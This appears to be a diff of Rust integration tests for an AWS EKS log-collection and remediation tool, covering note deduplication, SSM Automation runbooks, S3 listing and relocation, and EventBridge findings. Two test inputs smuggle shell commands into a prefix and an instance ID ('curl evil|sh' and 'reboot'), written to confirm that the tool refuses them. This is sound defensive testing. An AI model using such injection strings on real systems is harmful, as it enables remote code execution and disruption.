@@ -288,10 +288,14 @@ async fn store_locks_nodes_records_commands_notes_and_findings() {
     );
     assert_eq!(store.command("cmd-1").await.unwrap(), Some(req));
     assert_eq!(store.command("cmd-unknown").await.unwrap(), None);
-    store
-        .note("inc-a", "collection-failed: TimedOut")
-        .await
-        .unwrap();
+    // A replayed status event notes the same thing again: kept once.
+    for note in [
+        "collection-failed: TimedOut",
+        "collection-failed: TimedOut",
+        "second",
+    ] {
+        store.note("inc-a", note).await.unwrap();
+    }
     store
         .record_findings(
             "inc-a",
@@ -302,7 +306,10 @@ async fn store_locks_nodes_records_commands_notes_and_findings() {
         .await
         .unwrap();
     let item = store.incident("inc-a").await.unwrap().unwrap();
-    assert_eq!(item["notes"][0], "collection-failed: TimedOut");
+    assert_eq!(
+        item["notes"],
+        serde_json::json!(["collection-failed: TimedOut", "second"])
+    );
     assert_eq!(item["findings:i-1"][0], "ebs-io-throttling");
     // An expired lock (TTL passed, not yet deleted by DynamoDB) no longer holds the node.
     assert_eq!(
@@ -367,6 +374,49 @@ async fn ssm_sends_the_collector_script_and_refuses_unsafe_names() {
     let script = params["commands"].join("\n");
     assert!(script.contains("aws s3 cp \"$bundle\" \"s3://eks-remedy-bundles/bundles/prod-ssm/i-1/inc_1/$(basename \"$bundle\")\""), "{script}");
     let bad = ssm.collect(&id, "b", "bundles/x; curl evil|sh/").await;
+    assert!(matches!(bad, Err(PortError::Refused { .. })), "{bad:?}");
+}
+
+/// The automation method on moto (StartAutomationExecution comes from the moto extension): the
+/// runbook gets the instance and the bucket, and the role when one is configured.
+#[tokio::test]
+async fn ssm_automation_starts_the_runbook_with_instance_bucket_and_role() {
+    let sdk = sdk().await;
+    let (id, _) = node(&sdk, Some("prod-auto"), "m5.large").await;
+    let bucket = unique("bundles");
+    s3_client(&sdk)
+        .create_bucket()
+        .bucket(&bucket)
+        .send()
+        .await
+        .unwrap();
+    let c = aws_sdk_ssm::Client::new(&sdk);
+    let role = "arn:aws:iam::123456789012:role/eks-remedy-AutomationRole-1";
+    let ssm = Ssm::new(c.clone(), CollectionMethod::Automation, Some(role.into()));
+    let execution = ssm
+        .collect(&id, &bucket, "bundles/prod-auto/i-1/inc_1/")
+        .await
+        .unwrap();
+    let run = automation(&sdk, &execution).await;
+    assert_eq!(
+        run.document_name(),
+        Some("AWSSupport-CollectEKSInstanceLogs")
+    );
+    let params = run.parameters().unwrap();
+    assert_eq!(params["EKSInstanceId"], std::slice::from_ref(&id));
+    assert_eq!(params["LogDestination"], std::slice::from_ref(&bucket));
+    assert_eq!(params["AutomationAssumeRole"], [role.to_string()]);
+    assert_eq!(
+        run.automation_execution_status().map(|s| s.as_str()),
+        Some("Success")
+    );
+    // Without a role the parameter is left out (the runbook then runs as the caller).
+    let plain = Ssm::new(c.clone(), CollectionMethod::Automation, None);
+    let execution = plain.collect(&id, &bucket, "bundles/x/").await.unwrap();
+    let run = automation(&sdk, &execution).await;
+    let params = run.parameters().unwrap();
+    assert!(!params.contains_key("AutomationAssumeRole"), "{params:?}");
+    let bad = plain.collect("i-1; reboot", &bucket, "bundles/x/").await;
     assert!(matches!(bad, Err(PortError::Refused { .. })), "{bad:?}");
 }
 
@@ -465,6 +515,65 @@ async fn s3_objects_stream_and_missing_keys_are_not_found() {
     ));
 }
 
+/// Listing pages through S3 in key order up to a bound; relocation copies (keys with `:`, which
+/// CopySource needs percent-encoded) and then deletes the original.
+#[tokio::test]
+async fn s3_objects_list_in_key_order_and_relocate() {
+    let sdk = sdk().await;
+    let c = s3_client(&sdk);
+    let bucket = unique("bundles");
+    c.create_bucket().bucket(&bucket).send().await.unwrap();
+    let objects = Objects::new(c);
+    for day in ["19", "17", "18"] {
+        let key = format!("eks_i-1_2026-10-{day}_0525-UTC_0.7.9.tar.gz");
+        objects
+            .put(&bucket, &key, day.as_bytes().to_vec(), "application/gzip")
+            .await
+            .unwrap();
+    }
+    objects
+        .put(&bucket, "eks_i-2_x.tar.gz", vec![], "application/gzip")
+        .await
+        .unwrap();
+    let listed = objects.list(&bucket, "eks_i-1_", 100).await.unwrap();
+    assert_eq!(
+        listed,
+        [
+            "eks_i-1_2026-10-17_0525-UTC_0.7.9.tar.gz",
+            "eks_i-1_2026-10-18_0525-UTC_0.7.9.tar.gz",
+            "eks_i-1_2026-10-19_0525-UTC_0.7.9.tar.gz"
+        ]
+    );
+    assert_eq!(objects.list(&bucket, "eks_i-1_", 2).await.unwrap().len(), 2);
+    let to = "bundles/prod/i-1/prod:manual:20261019T0500/eks_i-1_2026-10-19_0525-UTC_0.7.9.tar.gz";
+    objects
+        .relocate(&bucket, "eks_i-1_2026-10-19_0525-UTC_0.7.9.tar.gz", to)
+        .await
+        .unwrap();
+    assert_eq!(
+        objects.list(&bucket, "eks_i-1_", 100).await.unwrap().len(),
+        2
+    );
+    assert_eq!(
+        objects.list(&bucket, "bundles/prod/", 100).await.unwrap(),
+        [to]
+    );
+    let moved = objects.open(&bucket, to).await.unwrap();
+    let body = tokio::task::spawn_blocking(move || {
+        let mut v = Vec::new();
+        let mut r = moved;
+        r.read_to_end(&mut v).unwrap();
+        v
+    })
+    .await
+    .unwrap();
+    assert_eq!(body, b"19");
+    let gone = objects
+        .relocate(&bucket, "eks_i-1_nope.tar.gz", "bundles/x")
+        .await;
+    assert!(matches!(gone, Err(PortError::NotFound { .. })), "{gone:?}");
+}
+
 #[tokio::test]
 async fn findings_events_reach_the_bus() {
     let sdk = sdk().await;
@@ -472,45 +581,7 @@ async fn findings_events_reach_the_bus() {
     let sqs = aws_sdk_sqs::Client::new(&sdk);
     let bus = unique("eks-remedy");
     ev.create_event_bus().name(&bus).send().await.unwrap();
-    let url = sqs
-        .create_queue()
-        .queue_name(unique("findings"))
-        .send()
-        .await
-        .unwrap()
-        .queue_url()
-        .unwrap()
-        .to_string();
-    let arn = sqs
-        .get_queue_attributes()
-        .queue_url(&url)
-        .attribute_names(aws_sdk_sqs::types::QueueAttributeName::QueueArn)
-        .send()
-        .await
-        .unwrap()
-        .attributes()
-        .unwrap()[&aws_sdk_sqs::types::QueueAttributeName::QueueArn]
-        .clone();
-    ev.put_rule()
-        .name("findings")
-        .event_bus_name(&bus)
-        .event_pattern(r#"{"source":["eks-remedy"]}"#)
-        .send()
-        .await
-        .unwrap();
-    ev.put_targets()
-        .rule("findings")
-        .event_bus_name(&bus)
-        .targets(
-            aws_sdk_eventbridge::types::Target::builder()
-                .id("q")
-                .arn(arn)
-                .build()
-                .unwrap(),
-        )
-        .send()
-        .await
-        .unwrap();
+    let url = rule_to_queue(&sdk, &bus, "findings", r#"{"source":["eks-remedy"]}"#).await;
     Publisher::new(ev, &bus)
         .publish(
             "eks-remedy findings",
